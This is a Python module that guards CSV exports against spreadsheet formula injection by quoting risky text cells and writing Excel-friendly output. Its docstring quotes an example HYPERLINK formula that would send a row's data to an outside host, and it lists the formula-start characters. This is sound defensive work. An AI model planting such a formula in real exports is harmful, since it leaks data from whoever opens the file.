"""CSV cells a spreadsheet would run as formulas, made inert (CSV injection): the one guard
every CSV ironriver writes for people goes through (`ledger --format csv`, `export --format
statements`, an ingest's error report).

Their text comes from agency files: a spreadsheet opening the CSV reads a cell starting with
`=`, `+`, `-` or `@` as a formula (some strip a leading tab or carriage return first), so a
value such as `=HYPERLINK("http://x/?"&A1,"open")` would run, and could send the row
elsewhere. Such a text cell is written with a single quote before it, the usual guard
(OWASP): a spreadsheet shows the text, and a program reading the file gets the quote as the
cell's first character. A cell that is a plain number (`-12.5`, `+52`, `-1e3`) is left as it
is: a spreadsheet reads it as that number, not as a formula. Numbers written as numbers
(not text) are never touched. (A top-level module: the CLI, `policy` and `ingest` share it.)

A CSV is UTF-8 with LF line ends, which every program reads alike, but Excel: it reads a
CSV without a byte-order mark in the Windows code page, so "Núñez" shows as "NÃºÃ±ez".
`--excel` (`EXCEL`, set by the command line for the command it runs, as the reader's
language is) writes each of those CSVs for Excel instead: a UTF-8 byte-order mark first and
CRLF line ends, which Excel (es-MX, en-US: both list with a comma) opens as written, and
which a program that does not expect a byte-order mark would read into its first header.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from contextlib import ExitStack, contextmanager
from contextvars import ContextVar
from typing import IO, TYPE_CHECKING, Any

if TYPE_CHECKING:
    import pyarrow as pa
    import pyarrow.csv as pacsv

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
"""The characters a spreadsheet reads a cell's formula from (or strips before one)."""
QUOTE = "'"
# `FORMULA_START` as the character class Arrow's kernels (`inert_array`) match: one list of
# them, which `inert` and `inert_array` both read
_FORMULA_RE = "^[" + "".join("\\" + c if c in "\\]^-" else c for c in FORMULA_START) + "]"
_NUMBER_TEXT = "[+-]?(?:[0-9]+(?:\\.[0-9]*)?|\\.[0-9]+)(?:[eE][+-]?[0-9]+)?"
_NUMBER = re.compile(_NUMBER_TEXT)
_NUMBER_RE = f"^{_NUMBER_TEXT}$"  # (RE2, Arrow's: `$` is the end of the text only)

EXCEL: ContextVar[bool] = ContextVar("ironriver_csv_excel", default=False)
"""Whether the CSVs the running command writes are for Excel (`--excel`: module doc)."""
BOM = "\ufeff"
"""The byte-order mark an Excel CSV starts with (UTF-8: EF BB BF)."""


def line_end() -> str:
    """The line end of the CSVs the running command writes: CRLF for Excel, else LF."""
    return "\r\n" if EXCEL.get() else "\n"


def write_csv(table: pa.Table, sink: str | IO[bytes], quoting_style: str = "needed") -> None:
    """`table` as CSV to `sink` (a path or a binary file), every text cell `inert`; for
    Excel (`EXCEL`) with a byte-order mark first and CRLF line ends."""
    with csv_writer(sink, table.schema, quoting_style) as out:
        out.write_table(inert_table(table))


@contextmanager
def csv_writer(
    sink: str | IO[bytes], schema: pa.Schema, quoting_style: str = "needed"
) -> Iterator[pacsv.CSVWriter]:
    """A CSV writer of `schema`'s columns to `sink` (a path or a binary file), its header
    written at once, for tables written one after the other (each made `inert_table` by the
    caller): the same bytes as `write_csv` of them all as one table. For Excel (`EXCEL`)
    with a byte-order mark first and CRLF line ends."""
    import pyarrow.csv as pacsv

    options = pacsv.WriteOptions(quoting_style=quoting_style, eol=line_end())
    with ExitStack() as stack:
        if EXCEL.get():
            if isinstance(sink, str):
                sink = stack.enter_context(open(sink, "wb"))
            sink.write(BOM.encode("utf-8"))
        yield stack.enter_context(pacsv.CSVWriter(sink, schema, write_options=options))


def inert(text: str) -> str:
    """`text` as a CSV cell no spreadsheet runs: with a single quote before it when it starts
    with a formula's character and is not a plain number (see the module doc)."""
    if text.startswith(FORMULA_START) and not _NUMBER.fullmatch(text):
        return QUOTE + text
    return text


def inert_cell(value: Any) -> Any:
    """`inert` for a text cell; any other value (a number, None) as it is."""
    return inert(value) if isinstance(value, str) else value


def inert_table(table: pa.Table) -> pa.Table:
    """`table` with every text cell `inert` (columns of other types as they are), computed
    column by column with Arrow kernels (an export's millions of cells)."""
    import pyarrow as pa

    columns = []
    for column in table.columns:
        if pa.types.is_string(column.type) or pa.types.is_large_string(column.type):
            column = inert_array(column)
        columns.append(column)
    return pa.table(columns, schema=table.schema)


def inert_array(column: Any) -> Any:
    """`inert` for every cell of an Arrow text array or chunked array (nulls stay null),
    with Arrow kernels."""
    import pyarrow.compute as pc

    risky = pc.and_(
        pc.match_substring_regex(column, _FORMULA_RE),
        pc.invert(pc.match_substring_regex(column, _NUMBER_RE)),
    )
    quoted = pc.binary_join_element_wise(QUOTE, column, "")
    return pc.if_else(risky, quoted, column)
